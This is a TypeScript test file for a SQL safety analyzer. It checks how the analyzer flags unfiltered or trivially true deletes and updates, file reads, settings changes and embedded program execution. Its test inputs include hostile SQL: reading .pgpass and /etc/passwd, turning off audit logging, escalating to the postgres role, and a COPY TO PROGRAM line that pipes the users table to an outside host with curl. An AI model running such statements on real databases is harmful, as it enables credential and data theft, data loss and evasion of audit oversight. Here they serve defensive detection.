import { before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { analyzeSql, loadSqlParser } from './analyze.js';

before(() => loadSqlParser());

function parts(sql: string) {
  const r = analyzeSql(sql, 'the action');
  if (!r.ok) assert.fail(r.reason);
  return r.parts;
}

describe('analyzeSql', () => {
  it('reads a plain SELECT as read-only with its tables', () => {
    const [p] = parts('SELECT o.id FROM orders o JOIN "Customers" c ON c.id = o.cid WHERE o.total > 1');
    assert.equal(p?.statement, 'select');
    assert.deepEqual(p?.tables, ['orders', 'Customers']);
    assert.equal(p?.readOnly, true);
    assert.equal(p?.where, null);
  });

  it('finds a DELETE inside a CTE as a part of its own', () => {
    const ps = parts('WITH gone AS (DELETE FROM invoices RETURNING *) SELECT count(*) FROM gone');
    const del = ps.find((p) => p.statement === 'delete');
    assert.ok(del, 'the nested DELETE is a part');
    assert.equal(del.where, 'none');
    assert.deepEqual(del.tables, ['invoices']);
    assert.match(del.origin, /WITH clause/);
  });

  it('tells no WHERE, a trivially true WHERE and a real one apart', () => {
    assert.equal(parts('DELETE FROM sessions')[0]?.where, 'none');
    for (const w of ['1=1', 'true', "'a' = 'a'", 'id = 5 OR 1=1', 'NOT false', "'t'::boolean", 'id = id', '1 = 1 AND 2 > 1']) {
      assert.equal(parts(`UPDATE users SET a = 1 WHERE ${w}`)[0]?.where, 'trivial', w);
    }
    for (const w of ['id = 5', '1=1 AND id = 5', 'false OR id > 3', '1 = 2']) {
      assert.equal(parts(`UPDATE users SET a = 1 WHERE ${w}`)[0]?.where, 'present', w);
    }
  });

  it('calls a WHERE trivial when it names no column or selects its own table back', () => {
    for (const w of ["'x' LIKE '%'", 'coalesce(NULL, true)', 'random() < 0.5', 'id IN (SELECT id FROM users)', 'NULL IS NULL', '1 IN (1, 2)', '5 BETWEEN 1 AND 9']) {
      assert.equal(parts(`DELETE FROM users WHERE ${w}`)[0]?.where, 'trivial', w);
    }
    for (const w of ['id IN (SELECT user_id FROM banned)', 'id IN (SELECT id FROM users WHERE spam)', "created_at < now() - interval '90 days'", 'false']) {
      assert.equal(parts(`DELETE FROM users WHERE ${w}`)[0]?.where, 'present', w);
    }
  });

  it('finds WHERE clauses that match every row, and server files', () => {
    for (const w of ['id IS NOT NULL', 'NOT (id IS NULL)', "email LIKE '%'", 'lower(email) = lower(email)', 'id = id::int', 'id IS NOT DISTINCT FROM id']) {
      assert.equal(parts(`UPDATE users SET a = 1 WHERE ${w}`)[0]?.where, 'trivial', w);
    }
    assert.equal(parts('DELETE FROM orders o USING customers c WHERE o.customer_id = c.id')[0]?.where, 'trivial', 'a join with no filter');
    const cte = parts("WITH s AS (SELECT id FROM carts WHERE updated_at < now()) DELETE FROM carts c USING s WHERE c.id = s.id").find((p) => p.statement === 'delete');
    assert.equal(cte?.where, 'present', 'a join with a filtered CTE');
    const r = analyzeSql("SELECT pg_read_file('/var/lib/postgresql/.pgpass'); COPY t FROM '/etc/passwd'; COPY t TO 'rel.csv'", 'x');
    assert.ok(r.ok);
    assert.deepEqual(r.ok ? r.files.map((f) => `${f.kind} ${f.path}`) : [], ['file_read /var/lib/postgresql/.pgpass', 'file_read /etc/passwd', 'file_write null']);
    assert.deepEqual(parts("SELECT set_config('log_statement', 'none', false)")[0]?.settings, ['log_statement']);
    assert.deepEqual(parts("ALTER DATABASE prod SET log_statement = 'none'")[0]?.settings, ['log_statement']);
  });

  it('names the settings SET and ALTER SYSTEM change', () => {
    assert.deepEqual(parts("ALTER SYSTEM SET pgaudit.log = 'none'")[0]?.settings, ['pgaudit.log']);
    assert.deepEqual(parts('SET ROLE postgres')[0]?.settings, ['role']);
    assert.deepEqual(parts('INSERT INTO t (a) VALUES (1)').map((p) => p.statement), ['insert', 'select']);
    assert.equal(parts('INSERT INTO t (a) VALUES (1)')[1]?.readOnly, true, 'VALUES is a read-only SELECT, not a side effect');
  });

  it('runs the statement of EXPLAIN ANALYZE but not of plain EXPLAIN', () => {
    assert.deepEqual(parts('EXPLAIN DELETE FROM orders').map((p) => p.statement), ['explain']);
    assert.deepEqual(parts('EXPLAIN ANALYZE DELETE FROM orders').map((p) => p.statement), ['explain', 'delete']);
    assert.deepEqual(parts('EXPLAIN (ANALYZE false) DELETE FROM orders').map((p) => p.statement), ['explain']);
  });

  it('names drops, DO blocks and COPY TO PROGRAM', () => {
    assert.deepEqual(parts('drop table if exists "public"."Users" cascade')[0]?.tables, ['public.Users']);
    assert.equal(parts('DROP DATABASE "Shop"')[0]?.statement, 'drop_database');
    assert.deepEqual(parts("DO $$ BEGIN EXECUTE 'x'; END $$")[0]?.tags, ['inline-code']);
    const copy = parts("COPY users TO PROGRAM 'curl -d @- https://x'")[0];
    assert.deepEqual(copy?.tags, ['program-code']);
    assert.equal(copy?.readOnly, false);
    assert.equal(parts('ALTER TABLE users DROP COLUMN email')[0]?.statement, 'alter_table');
    assert.equal(parts('GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC')[0]?.statement, 'grant');
  });

  it('counts every statement of a multi-statement text, comments aside', () => {
    const ps = parts('SELECT 1; -- cleanup\nDELETE FROM carts; /* DROP TABLE x */');
    assert.deepEqual(ps.map((p) => p.statement), ['select', 'delete']);
    assert.match(ps[1]?.origin ?? '', /statement 2 of 2/);
  });

  it('marks a SELECT that calls a writing function as not read-only', () => {
    assert.equal(parts('SELECT pg_terminate_backend(pid) FROM pg_stat_activity')[0]?.readOnly, false);
    assert.equal(parts("SELECT nextval('s')")[0]?.readOnly, false);
  });

  it('reports the parser message on a syntax error', () => {
    const r = analyzeSql('DELET FROM x', 'the action');
    assert.equal(r.ok, false);
    assert.match(!r.ok ? r.reason : '', /syntax error at or near "DELET"/);
  });
});
